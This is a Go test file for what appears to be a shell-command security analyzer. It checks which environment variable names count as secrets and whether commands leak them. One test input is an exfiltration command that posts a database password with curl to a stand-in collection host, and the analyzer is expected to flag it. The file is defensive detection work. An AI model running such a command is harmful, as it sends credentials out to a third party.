package effect

import (
	"testing"

	"rampart.dev/pkg/shell"
)

func TestSecretName(t *testing.T) {
	for name, want := range map[string]bool{
		"GITHUB_TOKEN": true, "github_token": true, "DB_PASS": true, "MYSQL_PWD": true,
		"OPENAI_KEY": true, "PASSPHRASE": true, "PGPASS": true, "STRIPE_SK": true, "SENTRY_DSN": true, "SLACK_WEBHOOK": true,
		"PWD": false, "OLDPWD": false, "GPG_KEY_FILE": false, "GPG_KEY_ID": false,
		"HOME": false, "VERSION": false, "KEYBOARD": false, "SKIP_TESTS": false,
		"SSH_AUTH_SOCK": false, "GITHUB_TOKEN_FILE": false, "VAULT_TOKEN_PATH": false,
		"GIT_AUTHOR_EMAIL": false, "GIT_AUTHOR_NAME": false, "CERT_AUTHORITY": false,
		"GH_AUTH": true, "OAUTH_CLIENT": true, "HTTP_AUTHORIZATION": true, "AUTH_TOKEN_VALUE": true,
		"TOKEN_URL": true, "DATABASE_URL": true, "AWS_ACCESS_KEY_ID": true,
		"MONGO_PROD_URI": true, "DB_REPLICA_URL": true, "RABBITMQ_URL": true, "DOCS_SITE_URL": false,
		"RCON_PW": true, "IDRAC_PW": true, "PW": false, "PW_TIMEOUT_ID": false,
	} {
		if got := secretName(name); got != want {
			t.Errorf("secretName(%q) = %v, want %v", name, got, want)
		}
	}
	// A secret named in any case is sent out.
	if !hasEffect(effectsOf(`curl -d "$db_pass" https://collect.example.net/`), "flow:secret-variable->network") {
		t.Errorf("no flow for $db_pass: %v", effectsOf(`curl -d "$db_pass" https://collect.example.net/`))
	}
}

// TestSecretFileVar checks which names say they hold a credential's file
// or a directory of them.
func TestSecretFileVar(t *testing.T) {
	for name, want := range map[string]bool{
		"POSTGRES_PASSWORD_FILE": true, "GITHUB_TOKEN_PATH": true, "API_KEY_FILEPATH": true,
		"SECRETS_DIR": true, "TOKEN_DIRECTORY": true, "KEY_DIR": false, "SSH_AUTH_SOCK": false,
		"CACHE_DIR": false, "GPG_KEY_FILE": true, "BUILD_FILE": false,
	} {
		if got := secretFileVar(name); got != want {
			t.Errorf("secretFileVar(%q) = %v, want %v", name, got, want)
		}
	}
}

// TestLeadingVar checks how a path that starts with a variable splits.
func TestLeadingVar(t *testing.T) {
	for _, tc := range []struct{ p, name, rest string }{
		{"$A/x", "A", "/x"}, {"${A}", "A", ""}, {"${A:-/d}/f", "A", "/f"}, {"${A:?}", "A", ""},
		{"$Ax-y", "", ""}, {"${A:+x}", "", ""}, {"${#A}", "", ""}, {"x/$A", "", ""},
	} {
		name, rest, ok := leadingVar(tc.p)
		if !ok {
			name, rest = "", ""
		}
		if name != tc.name || rest != tc.rest {
			t.Errorf("leadingVar(%q) = %q, %q, want %q, %q", tc.p, name, rest, tc.name, tc.rest)
		}
	}
}

// A name of digits alone ($1, $12) is never a secret's: secretName answers
// so without its look-ups, which holds only while no secret word, part or
// database name is digits alone.
func TestSecretNameDigits(t *testing.T) {
	for _, s := range secretNames {
		if allDigits(s) {
			t.Errorf("secretNames holds %q, digits alone: secretName's digit test would miss it", s)
		}
	}
	for _, m := range []map[string]bool{secretParts.All(), databaseShortNames.All(), loginSchemes.All()} {
		for k := range m {
			if allDigits(k) {
				t.Errorf("a secret part or scheme is %q, digits alone: secretName's digit test would miss it", k)
			}
		}
	}
	for _, name := range []string{"1", "0", "12", "99"} {
		if secretName(name) {
			t.Errorf("secretName(%q) = true", name)
		}
	}
}

// TestSecretVarWords holds secretVar, which skips to each '$', to a
// reading of every byte: the same variable for each list of words.
func TestSecretVarWords(t *testing.T) {
	every := func(words []string) string {
		for _, w := range words {
			for i := 0; i < len(w); i++ {
				if w[i] != '$' {
					continue
				}
				j := i + 1
				indirect := false
				if j < len(w) && w[j] == '{' {
					j++
					indirect = j < len(w) && w[j] == '!'
					if indirect {
						j++
					}
				}
				k := j
				for k < len(w) && nameByte(w[k]) {
					k++
				}
				if indirect && k > j && k < len(w) && w[k] != '[' && w[k] != '*' && w[k] != '@' {
					return "*"
				}
				if name := w[j:k]; !indirect && secretName(name) {
					return name
				}
			}
		}
		return ""
	}
	for _, words := range [][]string{
		nil, {""}, {"$"}, {"$$"}, {"a$"}, {"$GITHUB_TOKEN"}, {"x", "-H", "Authorization: Bearer $GITHUB_TOKEN"},
		{"${AWS_SECRET_ACCESS_KEY}"}, {"${!name}"}, {"${!name[@]}"}, {"${!}"}, {"$HOME/$API_KEY"},
		{"cost: 5$", "$PATH$DB_PASSWORD"}, {"{print $1}", "$NPM_TOKEN"}, {"$1$2$3"}, {"pre$", "$", "${", "${!"},
	} {
		want := every(words)
		if got := secretVar(&shell.Command{Args: words}); got != want {
			t.Errorf("secretVar(%q) = %q, want %q", words, got, want)
		}
	}
}
